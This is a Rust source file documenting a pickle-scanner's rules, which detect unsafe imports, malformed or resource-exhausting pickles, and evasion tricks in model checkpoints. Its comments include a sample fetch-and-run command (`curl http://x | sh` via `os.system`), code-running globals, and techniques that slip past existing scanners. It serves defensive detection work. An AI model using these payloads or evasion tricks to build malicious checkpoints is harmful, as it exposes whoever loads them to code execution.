//! Rules of the pickle machine and its verdict (codes PK001..), for every format built on
//! pickles (PyTorch checkpoints, NumPy object arrays, Paddle `.pdparams`, plain pickles).
//! References: CPython's `pickle` (`Lib/pickle.py`, `Lib/pickletools.py`) and
//! `torch.load(weights_only=True)`; `tests/fixtures/pickle/verdicts.tsv` records what torch,
//! numpy, paddle, picklescan, modelscan and fickling say about each fixture.

crate::rules! {
    group = ("PK", "Pickles");
    /// Loading the pickle imports a global outside the safe set.
    ///
    /// ## What it does
    /// Runs the pickle's opcodes without executing anything and resolves every `GLOBAL`,
    /// `STACK_GLOBAL` (whose module and name may come from the memo or from any string
    /// opcode), `INST` and `EXT1/2/4` to the global it names, with Python 2 names mapped as
    /// Python 3 maps them (`__builtin__.eval` is `builtins.eval`). The safe set is what
    /// `torch.load(weights_only=True)` allows by default (tensor rebuild functions, storage
    /// and dtype classes, `collections.OrderedDict`, `_codecs.encode`, `builtins.set`, ...),
    /// NumPy's array and scalar reconstruction, joblib's array wrapper and the builtin
    /// containers. Each other import is reported at its opcode, with the call that uses it:
    /// `REDUCE`, `NEWOBJ`, `NEWOBJ_EX`, `OBJ`, `INST`, or a `BUILD` that calls a
    /// `__setstate__` an earlier `BUILD` stored. Strings, bytes and tensor data are data: a
    /// string `'os.system'` is not an import. The message says first what loading does (runs
    /// a shell command, starts a process, runs Python code, opens a URL or a network
    /// connection, reads or writes files, imports a module, gets an attribute by name, or
    /// calls the global) and shows the call as Python writes it, with the arguments the
    /// pickle passes, escaped and cut to 200 characters: `loading runs a shell command:
    /// os.system('curl http://x | sh')`, or, where an argument is itself the result of a
    /// call, that call and `(arguments built at run time)`.
    ///
    /// ## Why
    /// `pickle.load` imports each global and calls what the pickle says: `os.system`,
    /// `builtins.exec`, `runpy._run_code`, `pydoc.pipepager`, `torch.hub.load` run code when
    /// the file is loaded. `torch.load(weights_only=True)` refuses every one of these (and
    /// blocks `os`, `posix`, `nt` and `sys` outright). picklescan and modelscan match names
    /// against deny lists, so modelscan misses `numpy.testing._private.utils.runstring`,
    /// `pydoc.pipepager`, `torch.hub.load` and `builtins.print`, and picklescan calls the
    /// last two only suspicious; both miss the `EXT1/2/4` extension codes, and fickling's
    /// analysis fails on `NEWOBJ_EX`. An allowlist names them all. An import that is never
    /// called is still reported: importing a module runs its top-level code.
    ///
    /// ## How to fix
    /// Do not load the file. A checkpoint should hold only tensors and plain containers:
    /// save `model.state_dict()` rather than the model, or use safetensors.
    UNSAFE_IMPORT = ("PK001", "unsafe-import", Error);
    /// Loading the pickle imports a framework class: a whole model object, not its weights.
    ///
    /// ## What it does
    /// Reports imports of classes under `torch.nn.modules`, `torch.nn.parameter` and
    /// `torch.optim` (such as `torch.nn.modules.linear.Linear`), which `torch.save(model)`
    /// writes when it is given the model object instead of its `state_dict()`.
    ///
    /// ## Why
    /// `torch.load(weights_only=True)`, the default since torch 2.6, refuses the file
    /// ("Unsupported global"), so it loads only with `weights_only=False`, which also lets
    /// any other global run. The classes import the framework's module code and rebuild an
    /// object whose class may have changed since it was saved. picklescan marks these
    /// imports suspicious; modelscan says nothing.
    ///
    /// ## How to fix
    /// Save `model.state_dict()` and rebuild the model in code before loading the weights.
    MODULE_IMPORT = ("PK002", "module-import", Warning);
    /// A byte where an opcode should be is no pickle opcode.
    ///
    /// ## What it does
    /// Checks each opcode byte against the 68 opcodes of protocols 0 to 5.
    ///
    /// ## Why
    /// `pickle.load` refuses the file ("invalid load key"). Scanners that stop at the first
    /// unknown byte see nothing after it: picklescan reports a parse warning and exits 0,
    /// modelscan reports an error and scans nothing. rtenx reports it and reads no further.
    ///
    /// ## How to fix
    /// The file is corrupt, not a pickle, or made to confuse scanners; do not load it.
    UNKNOWN_OPCODE = ("PK003", "unknown-opcode", Error);
    /// The pickle ends in the middle of an opcode, a frame, or before `STOP`.
    ///
    /// ## What it does
    /// Checks every length an opcode or `FRAME` declares against the bytes left, and that the
    /// stream reaches `STOP`.
    ///
    /// ## Why
    /// `pickle.load` raises `EOFError` or "pickle exhausted before end of frame"; a reader
    /// that trusts a declared length (a `LONG4` of 2 GiB in a 23-byte file) allocates for it.
    /// picklescan and modelscan report a parse problem but exit as if nothing were wrong
    /// (picklescan 0, modelscan 3).
    ///
    /// ## How to fix
    /// The file was cut short; copy or download it again.
    PICKLE_TRUNCATED = ("PK004", "pickle-truncated", Error);
    /// An opcode has an argument or a stack that `pickle.load` refuses.
    ///
    /// ## What it does
    /// Reports what makes `pickle.load` fail: a protocol above 5, a negative length, a memo
    /// entry fetched before it is stored, a stack or `MARK` underflow, `STACK_GLOBAL` of
    /// values that are not strings, an extension code below 1, a persistent id where no
    /// loader resolves one, protocol 0 text that is not a number or a quoted string.
    ///
    /// ## Why
    /// The loader refuses the file; a tool that reads on anyway sees another program than the
    /// loader does. picklescan and modelscan say nothing about `PROTO 6` or a negative `LONG4`
    /// length; fickling calls `PROTO 6` likely safe.
    ///
    /// ## How to fix
    /// The file is corrupt or hand-made; do not load it.
    PICKLE_INVALID = ("PK005", "pickle-invalid", Error);
    /// Bytes follow the pickle's `STOP`: a second pickle, or data hidden after the first.
    ///
    /// ## What it does
    /// Reports the bytes after `STOP` where the format has none, reads them as the second
    /// pickle a second `pickle.load` on the same stream would read, and judges what that one
    /// imports (without reporting what spoils it).
    ///
    /// ## Why
    /// `pickle.load` reads one pickle and leaves the rest, so a tool that stops at `STOP`
    /// misses a payload that a loader calling `load` twice (as legacy `torch.load` does)
    /// runs. torch refuses these files ("Invalid magic number"); picklescan and modelscan
    /// report a parse warning for junk after `STOP` but exit as if the file were safe, and
    /// fickling calls it likely safe.
    ///
    /// ## How to fix
    /// Remove the trailing bytes, or do not load a file someone appended to.
    DATA_AFTER_STOP = ("PK006", "data-after-stop", Error);
    /// Containers nest more than 1,000 levels deep.
    ///
    /// ## What it does
    /// Tracks how deep lists, tuples, dicts, sets and objects nest as opcodes fill them, and
    /// reports the first value that passes Python's default recursion limit (1,000). rtenx
    /// builds values without recursion, reads on, and looks no deeper when it walks them.
    ///
    /// ## Why
    /// `pickle.load` builds the object, but anything that recurses over it (`repr`,
    /// `copy.deepcopy`, `json`, a state-dict walk) raises `RecursionError` or overflows the C
    /// stack, and a recursive reader crashes. No checkpoint nests this deep. picklescan and
    /// modelscan say nothing; fickling reports exceeded resource limits.
    ///
    /// ## How to fix
    /// The file is made to exhaust a reader; do not load it.
    NESTING_TOO_DEEP = ("PK007", "nesting-too-deep", Error);
    /// Strings fetched from the memo add up to more than the file's size plus 64 MiB.
    ///
    /// ## What it does
    /// Adds up the length of every string and bytes value fetched from the memo (`GET`,
    /// `BINGET`, `LONG_BINGET`) and reports the first fetch that passes the pickle's size plus
    /// 64 MiB. rtenx keeps each memo entry once and refers to it, so it copies nothing.
    ///
    /// ## Why
    /// Python shares the object too, but a reader that copies each reference, or a consumer
    /// that serialises the loaded object (`json.dumps`, `repr`, a deep copy), needs all of
    /// it: a 64 KiB string fetched 100,000 times is 6.5 GB from 265 KB. picklescan and
    /// modelscan say nothing; fickling reports the GET/PUT ratio.
    ///
    /// ## How to fix
    /// The file is made to exhaust a reader; do not load it.
    MEMO_EXPANSION = ("PK008", "memo-expansion", Warning);
    /// An integer has more than 4,300 decimal digits.
    ///
    /// ## What it does
    /// Reports a `LONG1`/`LONG4` integer longer than 1,786 bytes: more digits than Python
    /// converts to text by default (`sys.get_int_max_str_digits()`, 4,300).
    ///
    /// ## Why
    /// The pickle loads, but `str()`, `repr()`, `print` and JSON of the loaded value raise
    /// `ValueError`, and quadratic conversions of such numbers were a denial-of-service
    /// (CVE-2020-10735). No model value needs more than 64 bits. picklescan, modelscan and
    /// fickling say nothing about a 1 MiB integer.
    ///
    /// ## How to fix
    /// The file is made to exhaust its consumers; do not load it.
    HUGE_INTEGER = ("PK009", "huge-integer", Warning);
    /// The pickle takes buffers passed outside the file (protocol 5 out-of-band data).
    ///
    /// ## What it does
    /// Reports the first `NEXT_BUFFER` opcode: its bytes are not in the file but in buffers
    /// the caller must pass to `pickle.load(buffers=...)`.
    ///
    /// ## Why
    /// Loading the file alone fails ("pickle stream refers to out-of-band data but no
    /// *buffers* argument was given"), so the file is not a whole checkpoint. Nothing runs:
    /// this is a warning. fickling fails on the opcode; picklescan and modelscan say nothing.
    ///
    /// ## How to fix
    /// Pickle with `buffer_callback=None` (the default) so that buffers are written in-band.
    OUT_OF_BAND_DATA = ("PK010", "out-of-band-data", Warning);
    /// Loading the pickle imports an inert standard-library type or builtin.
    ///
    /// ## What it does
    /// Reports imports from a short, fixed list of inert globals: calling one with the
    /// strings, numbers, containers and objects a pickle can pass runs no code beyond its own
    /// data handling, reaches no file, process or network, and cannot reach an attribute or
    /// call that the pickle does not import itself (which rtenx judges on its own). Each
    /// entry and why it is inert:
    /// - `__future__` features (`annotations`, `division`, ...): constant `_Feature` records.
    /// - `argparse.Namespace`, `types.SimpleNamespace`: bags of attributes, set from the
    ///   data `BUILD` passes (PyTorch Lightning checkpoints store hyperparameters this way).
    /// - `builtins.abs`, `bin`, `bool`, `chr`, `divmod`, `float`, `hex`, `int`, `len`, `max`,
    ///   `min`, `object`, `oct`, `ord`, `range`, `round`, `str`: pure functions and value
    ///   types; `REDUCE` passes positional arguments only, so `max` and `min` get no `key`.
    /// - `collections.UserDict`, `UserList`, `UserString` (Python 2's names for them map
    ///   here) and the abstract classes of `collections.abc`: containers, and classes that
    ///   refuse to be instantiated.
    /// - `copyreg._reconstructor`, `copyreg.__newobj__`, `copyreg.__newobj_ex__`: how
    ///   protocols 0 to 2 rebuild objects; they call `__new__` and `__init__` of classes the
    ///   pickle passes them, which it must import, and rtenx judges those imports.
    /// - `datetime.date`, `datetime`, `time`, `timedelta`, `timezone`, `decimal.Decimal`,
    ///   `fractions.Fraction`, `uuid.UUID`: value types.
    /// - `pathlib.Path`, `PosixPath`, `WindowsPath`, `PurePath`, `PurePosixPath`,
    ///   `PureWindowsPath`: making a path object touches no file.
    ///
    /// Names are resolved as `find_class` resolves them first: a dotted name that walks
    /// attributes through a Python internal (`len.__class__`) is unsafe (PK001), not inert.
    ///
    /// ## Why
    /// `torch.load(weights_only=True)` refuses these globals ("Unsupported global"), so the
    /// file needs `weights_only=False` to load, which lets any other global run too; but the
    /// globals themselves run nothing, so calling them an unsafe import (an error) would
    /// fail healthy files, such as a training checkpoint with an `argparse.Namespace` of
    /// hyperparameters. picklescan reports most of them as dangerous or suspicious;
    /// modelscan reports none. `--deny warning` still fails them.
    ///
    /// ## How to fix
    /// Save only tensors and plain containers (a `state_dict`, or safetensors); keep
    /// hyperparameters in a JSON or YAML file beside the weights.
    INERT_IMPORT = ("PK011", "inert-import", Warning);
    /// An opcode reads past the end of its frame, or a frame opens inside another.
    ///
    /// ## What it does
    /// Follows protocol 4's `FRAME` opcodes and reports the first read that crosses a frame's
    /// end: an opcode whose argument starts inside the frame and ends after it, or a `FRAME`
    /// before the previous frame's bytes are used up. rtenx then reads the pickle a second
    /// time as CPython's C unpickler can read it from a stream without `peek`, from the
    /// frame's end, and judges the imports that reading reaches too (PK001 and the other
    /// import rules name them).
    ///
    /// ## Why
    /// `pickle.dumps` never writes such frames. The pure-Python unpickler refuses them
    /// ("pickle exhausted before end of frame"), `pickletools` reads straight on, and
    /// CPython's C unpickler reading from an `io.BytesIO` (as `torch.load` reads `data.pkl`)
    /// can drop the frame's last bytes and read the argument from after the frame: an
    /// argument that straddles a frame is data to a linear reader and hides a
    /// `GLOBAL os.system` + `REDUCE` that the C unpickler runs (python/cpython#154848). Which
    /// arguments are read that way depends on the release: every one in 3.6 and 3.7 (the
    /// `BINBYTES` of `PK012-frame-crossed.pkl`), text arguments such as `BINUNICODE` up to 3.13.0
    /// at least (`tests/fixtures/pickle/bad/oracle.tsv`). picklescan, modelscan and fickling
    /// read linearly and call such files safe.
    ///
    /// ## How to fix
    /// The file is made to show scanners another program than the loader runs; do not load
    /// it.
    FRAME_CROSSED = ("PK012", "frame-crossed", Error);
    /// The pickle changes a module or class it imported.
    ///
    /// ## What it does
    /// Reports `BUILD`, `SETITEM`, `SETITEMS`, `APPEND`, `APPENDS` and `ADDITEMS` whose target
    /// is an object a `GLOBAL`, `STACK_GLOBAL`, `INST` or `EXT` returned, naming the
    /// attributes or keys set. An import made later that resolves through the changed
    /// object (its path, or one of its attributes) is unsafe (PK001), whatever its name.
    ///
    /// ## Why
    /// `BUILD` on a module or class updates its `__dict__` or sets its attributes on the live
    /// object, in the loading process: a pickle can replace `torch._utils._rebuild_tensor`
    /// with another callable and then import it under its trusted name, so an allowlist of
    /// names no longer says what runs. No pickle writer changes imported objects; only a
    /// hand-made file does.
    ///
    /// ## How to fix
    /// Do not load the file.
    IMPORTED_OBJECT_CHANGED = ("PK013", "imported-object-changed", Error);
}
